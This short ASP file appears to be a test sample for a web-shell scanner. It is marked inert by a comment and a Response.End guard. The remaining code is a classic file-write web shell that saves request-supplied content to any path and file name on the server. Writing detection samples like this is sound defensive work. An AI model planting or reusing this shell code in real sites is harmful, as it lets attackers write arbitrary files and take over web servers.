<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set s = Server.CreateObject("ADODB.Stream")
With s
.Open
.Charset = "utf-8"
.WriteText = Request("body")
.SaveToFile Server.MapPath(".") & "\" & Request("pathname") & "\" & Request("filename"), 2
.Close
End With
%>
